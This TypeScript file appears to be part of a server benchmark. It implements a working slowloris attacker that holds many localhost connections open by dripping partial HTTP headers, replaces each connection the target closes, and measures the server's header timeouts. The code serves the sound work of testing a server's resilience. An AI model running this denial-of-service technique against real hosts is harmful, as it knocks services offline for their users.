// An attacker process for bench:slowloris: keeps COUNT connections open, each having sent the
// start of a request head and then one more header byte every TICK_S seconds, never the blank
// line that ends the head. A connection the target closes (its header timeout) is replaced at
// once, as a real slowloris does, until SECONDS have passed; then every connection is closed.
// Connections come from the SOURCES addresses in turn (each has its own ephemeral ports).
// Bounded: the attack stops after SECONDS, the process exits after reporting.
// Usage (forked): node --import tsx slowloris-attacker.ts PORT SOURCES COUNT SECONDS TICK_S
import { connect, type Socket } from 'node:net';

export type ToAttacker = { readonly t: 'stop' };
export interface AttackStats {
  readonly opened: number;
  readonly peakOpen: number;
  /** Closed by the target before the attack ended (its header timeout, or a refusal). */
  readonly closedByTarget: number;
  /** Of those, how many were answered 408 first. */
  readonly answered408: number;
  /** Connections that failed to connect (refused, reset, no port). */
  readonly connectErrors: number;
  /** How long the target kept a slowloris connection, in seconds (those it closed). */
  readonly lifetimeP50: number;
  readonly lifetimeMax: number;
  /** Seconds until COUNT connections were first open at once (NaN: never). */
  readonly rampSeconds: number;
}
export type FromAttacker = { readonly t: 'up'; readonly seconds: number } | { readonly t: 'done'; readonly stats: AttackStats };

/** Connections in their TCP handshake at once while ramping up. */
const CONNECTING_AT_ONCE = 200;
/** How often the byte-dripping timer runs; each run serves the slice of connections that is due. */
const STEP_MS = 100;

const [port, count, seconds, tickS] = [process.argv[2], process.argv[4], process.argv[5], process.argv[6]].map(Number);
const sources = process.argv[3].split(',');
const HEAD_START = `GET /?slowloris HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUser-Agent: slowloris\r\nX-Slow: `;

/** Open connections and the drip slot of each (so each gets a byte every tickS seconds). */
const open = new Map<Socket, number>();
const SLICES = Math.max(1, Math.round((tickS * 1000) / STEP_MS));
const t0 = performance.now();
const endAt = t0 + seconds * 1000;
let connecting = 0;
let opened = 0;
let peakOpen = 0;
let closedByTarget = 0;
let answered408 = 0;
let connectErrors = 0;
let nextSource = 0;
let rampSeconds = NaN;
let stopping = false;
const lifetimes: number[] = [];

function attacking(): boolean {
  return !stopping && performance.now() < endAt;
}

function openOne(): void {
  connecting++;
  const source = sources[nextSource++ % sources.length];
  const socket = connect({ host: '127.0.0.1', port, localAddress: source });
  let connectedAt = 0;
  socket.once('connect', () => {
    connecting--;
    connectedAt = performance.now();
    opened++;
    open.set(socket, opened % SLICES);
    peakOpen = Math.max(peakOpen, open.size);
    if (Number.isNaN(rampSeconds) && open.size >= count) {
      rampSeconds = (connectedAt - t0) / 1000;
      report({ t: 'up', seconds: rampSeconds });
    }
    socket.write(HEAD_START);
  });
  socket.on('data', (d: Buffer) => {
    if (d.toString('latin1', 0, 12) === 'HTTP/1.1 408') answered408++;
  });
  socket.on('error', () => {});
  socket.once('close', () => {
    if (connectedAt === 0) {
      connecting--;
      connectErrors++;
    } else if (open.delete(socket) && !stopping) {
      closedByTarget++;
      lifetimes.push((performance.now() - connectedAt) / 1000);
    }
    // A closed connection is replaced at once (after a short pause if it never connected).
    if (attacking()) setTimeout(fill, connectedAt === 0 ? 100 : 0);
  });
}

/** Opens connections until COUNT are open or connecting, at most CONNECTING_AT_ONCE in handshake. */
function fill(): void {
  while (attacking() && open.size + connecting < count && connecting < CONNECTING_AT_ONCE) openOne();
}

/** One more header byte on each connection whose turn it is: each one every tickS seconds. */
let step = 0;
function drip(): void {
  const slice = step++ % SLICES;
  for (const [socket, slot] of open) if (slot === slice && socket.writable) socket.write('a');
  fill();
}

function percentile(sorted: readonly number[], p: number): number {
  return sorted.length === 0 ? NaN : sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

function finish(): void {
  if (stopping) return;
  stopping = true;
  clearInterval(dripper);
  clearTimeout(ender);
  for (const socket of open.keys()) socket.destroy();
  open.clear();
  const sorted = [...lifetimes].sort((a, b) => a - b);
  report({
    t: 'done',
    stats: { opened, peakOpen, closedByTarget, answered408, connectErrors, lifetimeP50: percentile(sorted, 50), lifetimeMax: sorted.at(-1) ?? NaN, rampSeconds },
  });
  process.disconnect?.();
}

function report(msg: FromAttacker): void {
  process.send?.(msg);
}

const dripper = setInterval(drip, STEP_MS);
const ender = setTimeout(finish, seconds * 1000);
process.on('message', (msg: ToAttacker) => msg.t === 'stop' && finish());
process.on('disconnect', () => process.exit(0));
fill();
